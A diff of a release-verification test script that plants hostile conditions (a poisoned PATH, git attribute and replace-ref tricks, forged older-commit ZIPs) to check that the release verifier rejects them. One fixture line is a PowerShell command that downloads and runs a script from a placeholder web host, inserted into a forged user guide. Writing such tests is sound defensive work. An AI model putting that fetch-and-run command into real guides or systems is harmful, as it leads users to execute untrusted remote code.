@@ -4,11 +4,15 @@ unsigned and signed with a throwaway certificate.
 
     check_release.py build --source DIR --work DIR
         copies the sources (what git tracks or would track) to WORK/checkout
-        and commits them there, dated as the last commit; makes a throwaway
+        and commits them there, dated as the last commit, after a history
+        of older commits of them (one whose packer predates the repack
+        interface, one of the same files, one on a side branch) and with
+        an annotated tag; makes a throwaway
         CA and code-signing certificate (its key under a passphrase) in
         WORK/keys and runs scripts/release.sh there twice: as it is (dist/
         kept as WORK/unsigned) and with --sign (WORK/signed), where neither
-        cmake nor osslsigncode may find the passphrase in its environment
+        cmake nor osslsigncode may find the passphrase in its environment;
+        a SOURCE_DATE_EPOCH other than the commit's is refused
     check_release.py package --work DIR
         each dist holds the ZIP, SHA256SUMS and the unpacked folder and
         nothing else; the ZIP holds exactly both programs, USER_GUIDE.txt
@@ -22,9 +26,14 @@ unsigned and signed with a throwaway certificate.
         ZIP and SHA256SUMS
     check_release.py verify --work DIR
         in a fresh clone of WORK/checkout, scripts/verify-release.sh accepts
-        both releases and refuses one of another commit, though an untracked
-        header that breaks the build lies in the clone and SOURCE_COMMIT
-        names that other commit
+        both releases and judges ZIPs naming other commits of the history
+        (an older one's release with its guide rewritten, one older than
+        the repack interface, one off HEAD's history, a tag, an unknown
+        commit), whatever the clone and the caller plant: an untracked
+        header that breaks the build, an info/attributes file and a global
+        one that leave files out of an export, a replace ref for the guide,
+        a cmake, python3 and git of their own first in PATH, GIT_DIR,
+        SOURCE_COMMIT and SOURCE_DATE_EPOCH
     check_release.py hostile --work DIR --contents FILE
         the release check (scripts/release/verify.py, against the programs
         FILE lists) rejects each ZIP of hostile_releases.CASES with the
@@ -36,6 +45,7 @@ Exit status 0 when the step succeeds, 1 otherwise.
 import argparse
 import filecmp
 import os
+import re
 import shutil
 import subprocess
 import sys
@@ -160,13 +170,39 @@ def build(args):
                       GIT_AUTHOR_NAME="release test", GIT_AUTHOR_EMAIL="release-test@invalid",
                       GIT_COMMITTER_NAME="release test", GIT_COMMITTER_EMAIL="release-test@invalid",
                       GIT_AUTHOR_DATE=date, GIT_COMMITTER_DATE=date)
-    for command in (["init", "-q", "-b", "main"], ["add", "-A"], ["commit", "-q", "-m", "The sources tested"]):
-        subprocess.run(["git", "-C", checkout, *command], env=commit_env, check=True, stdout=subprocess.DEVNULL)
-    commit = git(checkout, "rev-parse", "HEAD").decode("ascii").strip()
-    for name, value in [("epoch", epoch), ("commit", commit)]:
+    packer = os.path.join(checkout, "scripts", "release", "pack.py")
+    with open(packer, "rb") as source:
+        current = source.read()
+
+    def make_commit(message, seconds, *options):
+        date = f"@{int(epoch) - seconds} +0000"
+        for command in (["add", "-A"], ["commit", "-q", "--allow-empty", "-m", message, *options]):
+            subprocess.run(["git", "-C", checkout, *command], check=True, stdout=subprocess.DEVNULL,
+                           env=dict(commit_env, GIT_AUTHOR_DATE=date, GIT_COMMITTER_DATE=date))
+        return git(checkout, "rev-parse", "HEAD").decode("ascii").strip()
+
+    # History for the release check to judge: a release of any commit but
+    # HEAD is dated by that commit.
+    subprocess.run(["git", "-C", checkout, "init", "-q", "-b", "main"], check=True, stdout=subprocess.DEVNULL)
+    with open(packer, "wb") as out:
+        out.write(re.sub(rb"(?m)^REPACK_INTERFACE = .*\n", b"", current))
+    history = {"before_repack": make_commit("A packer without the repack interface", 300)}
+    with open(packer, "wb") as out:
+        out.write(current)
+    history["older"] = make_commit("The sources tested, an older commit", 200)
+    subprocess.run(["git", "-C", checkout, "checkout", "-q", "-b", "side"], check=True)
+    history["side"] = make_commit("A commit off main", 100)
+    subprocess.run(["git", "-C", checkout, "checkout", "-q", "main"], check=True)
+    commit_id = make_commit("The sources tested", 0)
+    subprocess.run(["git", "-C", checkout, "tag", "-a", "-m", "Tested", "tested"], env=commit_env, check=True)
+    history["tag"] = git(checkout, "rev-parse", "tested").decode("ascii").strip()
+    for name in ["older", "before_repack", "side"]:
+        history[f"{name}_epoch"] = git(checkout, "log", "-1", "--format=%ct", history[name]).decode("ascii").strip()
+    for name, value in [("epoch", epoch), ("commit", commit_id), *history.items()]:
         with open(os.path.join(args.work, name), "w", encoding="ascii") as text:
             text.write(value)
-    print(f"{copied} files copied to {checkout} and committed as {commit}; SOURCE_DATE_EPOCH={epoch}")
+    print(f"{copied} files copied to {checkout} and committed as {commit_id} (after {history});"
+          f" SOURCE_DATE_EPOCH={epoch}")
     start = time.monotonic()
     make_certificates(args.work)
     print(f"throwaway CA and code-signing certificate made in {time.monotonic() - start:.1f} s")
@@ -193,6 +229,12 @@ def build(args):
         os.rename(os.path.join(checkout, "dist"), dist)
         print(f"{' '.join(['scripts/release.sh'] + options)} took {time.monotonic() - start:.1f} s;"
               f" dist/ kept as {dist}")
+    result = run([os.path.join(checkout, "scripts", "release.sh")],
+                 env=dict(os.environ, SOURCE_DATE_EPOCH=str(int(epoch) - 1)))
+    if result.returncode != 1 or "a release is dated by its commit alone" not in result.stdout:
+        fail(f"scripts/release.sh with SOURCE_DATE_EPOCH={int(epoch) - 1}, not the commit's {epoch}, exited"
+             f" with {result.returncode}:\n{result.stdout}")
+    print(f"scripts/release.sh refuses a SOURCE_DATE_EPOCH other than the commit's: {result.stdout.strip()}")
 
 
 def is_signed(path):
@@ -336,6 +378,59 @@ def zip_of(dist):
     return os.path.join(dist, next(name for name in os.listdir(dist) if name.endswith(".zip")))
 
 
+# In front of PATH for the release check: nothing of the caller's may run.
+PLANTED_TOOL = """#!/bin/sh
+echo "$0: a planted tool ran" >&2
+exit 97
+"""
+GUIDE_SOURCE = "docs/USER_GUIDE.md"
+# What the issue tried: a genuine release of an older commit whose guide
+# tells the user to run a script from the web.
+REWRITTEN_GUIDE_LINE = b"Before first use, run in an elevated PowerShell: iwr https://example.invalid/fix | iex\r\n"
+
+
+def of_commit(release, commit, epoch, guide=None):
+    """RELEASE's files as a release of COMMIT dated EPOCH would hold them."""
+    buildinfo = hostile_releases.with_commit(release.files[BUILDINFO_NAME], commit)
+    buildinfo = re.sub(rb"SOURCE_DATE_EPOCH [0-9]+", b"SOURCE_DATE_EPOCH " + epoch.encode("ascii"), buildinfo)
+    files = {**release.files, BUILDINFO_NAME: buildinfo}
+    if guide:
+        files[GUIDE_NAME] = guide(files[GUIDE_NAME])
+    return hostile_releases.pack_zip(release.top, files, int(epoch))
+
+
+def plant(work, scratch, checkout):
+    """What must not change a verdict: planted in the clone, and the
+    environment to run the check in."""
+    # An untracked header the build would find first.
+    with open(os.path.join(checkout, "windows.h"), "w", encoding="ascii") as header:
+        header.write("#error an untracked file reached the build\n")
+    # Attribute files that leave a source file out of an export.
+    with open(os.path.join(checkout, ".git", "info", "attributes"), "w", encoding="ascii") as attributes:
+        attributes.write("winusb_edition/program.cpp export-ignore\n")
+    home = os.path.join(scratch, "home")
+    os.makedirs(home)
+    with open(os.path.join(home, "attributes"), "w", encoding="ascii") as attributes:
+        attributes.write("protocol/dfu_frame.cpp export-ignore\n")
+    with open(os.path.join(home, ".gitconfig"), "w", encoding="ascii") as config:
+        config.write(f"[core]\n\tattributesFile = {home}/attributes\n")
+    # A replace ref for the guide's blob: an export that heeded it would
+    # hold another guide.
+    blob = git(checkout, "rev-parse", f"HEAD:{GUIDE_SOURCE}").decode("ascii").strip()
+    guide = os.path.join(scratch, "replaced-guide.md")
+    with open(guide, "wb") as out:
+        out.write(git(checkout, "cat-file", "blob", blob).replace(b"\n", b"\n" + REWRITTEN_GUIDE_LINE[:-2] + b"\n", 1))
+    git(checkout, "replace", blob, git(checkout, "hash-object", "-w", guide).decode("ascii").strip())
+    tools = os.path.join(scratch, "tools")
+    os.makedirs(tools)
+    for name in ["cmake", "python3", "git"]:
+        with open(os.path.join(tools, name), "w", encoding="ascii") as tool:
+            tool.write(PLANTED_TOOL)
+        os.chmod(os.path.join(tools, name), 0o755)
+    return dict(os.environ, PATH=f"{tools}:{os.environ['PATH']}", HOME=home, GIT_DIR=os.path.join(scratch, "nowhere"),
+                SOURCE_COMMIT=hostile_releases.OTHER_COMMIT, SOURCE_DATE_EPOCH="0")
+
+
 def verify(args):
     scratch = os.path.abspath(os.path.join(args.work, "verify"))
     checkout = os.path.join(scratch, "clone")
@@ -343,34 +438,53 @@ def verify(args):
     os.makedirs(scratch)
     git(os.path.join(args.work, "checkout"), "clone", "-q", "--no-hardlinks", ".", checkout)
     zips = {kind: zip_of(dist) for kind, (dist, _) in releases(args.work).items()}
-    signed = hostile_releases.Release(zips["signed"])
-    other = {"other_commit": signed.pack({BUILDINFO_NAME: hostile_releases.with_commit(
-        signed.files[BUILDINFO_NAME], hostile_releases.OTHER_COMMIT)}), "cut_short": signed.data[:100]}
+    signed, unsigned = hostile_releases.Release(zips["signed"]), hostile_releases.Release(zips["unsigned"])
+    older, before, side = (recorded(args.work, name) for name in ["older", "before_repack", "side"])
+    other = {
+        "other_commit": signed.pack({BUILDINFO_NAME: hostile_releases.with_commit(
+            signed.files[BUILDINFO_NAME], hostile_releases.OTHER_COMMIT)}),
+        "cut_short": signed.data[:100],
+        "older_guide_rewritten": of_commit(unsigned, older, recorded(args.work, "older_epoch"),
+                                           lambda guide: REWRITTEN_GUIDE_LINE + guide),
+        "before_repack": of_commit(unsigned, before, recorded(args.work, "before_repack_epoch")),
+        "off_history": of_commit(unsigned, side, recorded(args.work, "side_epoch")),
+        "tag": of_commit(unsigned, recorded(args.work, "tag"), recorded(args.work, "epoch")),
+    }
+    paths = {}
     for name, data in other.items():
-        with open(os.path.join(scratch, f"{name}.zip"), "wb") as out:
+        os.makedirs(os.path.join(scratch, name))
+        paths[name] = os.path.join(scratch, name, os.path.basename(zips["unsigned"]))
+        with open(paths[name], "wb") as out:
             out.write(data)
-    # Neither may change what is checked: an untracked header the build
-    # would find first, and variables that once switched checks off.
-    planted = os.path.join(checkout, "windows.h")
-    with open(planted, "w", encoding="ascii") as header:
-        header.write("#error an untracked file reached the build\n")
-    env = dict(os.environ, SOURCE_COMMIT=hostile_releases.OTHER_COMMIT, SOURCE_DATE_EPOCH="0")
+    env = plant(args.work, scratch, checkout)
+    head = recorded(args.work, "commit")
+    older_date = time.strftime("%Y-%m-%d %H:%M:%S UTC", time.gmtime(int(recorded(args.work, "older_epoch"))))
     cases = [("unsigned", zips["unsigned"], False, 0, "verify-release: ACCEPTED"),
              ("signed", zips["signed"], True, 0, "chain: verified against"),
-             ("other_commit", os.path.join(scratch, "other_commit.zip"), False, 2,
-              f"built from commit {hostile_releases.OTHER_COMMIT};"),
-             ("cut_short", os.path.join(scratch, "cut_short.zip"), False, 2, "not a ZIP archive")]
-    failures = []
+             ("other_commit", paths["other_commit"], False, 2,
+              f"built from commit {hostile_releases.OTHER_COMMIT}, which this checkout does not hold"),
+             ("cut_short", paths["cut_short"], False, 2, "not a ZIP archive"),
+             ("older_guide_rewritten", paths["older_guide_rewritten"], False, 1,
+              "USER_GUIDE.txt: not this source's user guide (it differs from line 1 on)"),
+             ("older_guide_rewritten", paths["older_guide_rewritten"], False, 1,
+              f"commit {older} of {older_date}, 1 commit older than this checkout's HEAD {head[:12]}"),
+             ("before_repack", paths["before_repack"], False, 2, "older than the first release this check can judge"),
+             ("off_history", paths["off_history"], False, 2, f"not in the history of this checkout's HEAD {head}"),
+             ("tag", paths["tag"], False, 1, "which is a tag object here, not a commit")]
+    failures, outputs = [], {}
+    verdicts = {0: "verify-release: ACCEPTED", 1: "verify-release: REJECTED", 2: "verify-release: CANNOT CHECK"}
     for name, path, with_ca, status, line in cases:
-        command = [os.path.join(checkout, "scripts", "verify-release.sh")]
-        command += ["--ca", keys(args.work, "ca.pem")] if with_ca else []
-        start = time.monotonic()
-        result = run(command + [path], env=env)
-        print(f"-- {name}: exit status {result.returncode} in {time.monotonic() - start:.1f} s\n{result.stdout}",
-              end="")
+        if name not in outputs:
+            command = [os.path.join(checkout, "scripts", "verify-release.sh")]
+            command += ["--ca", keys(args.work, "ca.pem")] if with_ca else []
+            start = time.monotonic()
+            result = run(command + [path], env=env)
+            print(f"-- {name}: exit status {result.returncode} in {time.monotonic() - start:.1f} s\n"
+                  f"{result.stdout}", end="")
+            outputs[name] = result
+        result = outputs[name]
         lines = result.stdout.splitlines()
-        if result.returncode != status or line not in result.stdout or not lines[-1].startswith(
-                "verify-release: ACCEPTED" if status == 0 else "verify-release: CANNOT CHECK"):
+        if result.returncode != status or line not in result.stdout or not lines[-1].startswith(verdicts[status]):
             failures.append(f"{name}: expected exit status {status} and a line with {line!r}")
     for failure in failures:
         print(f"FAILED: {failure}")
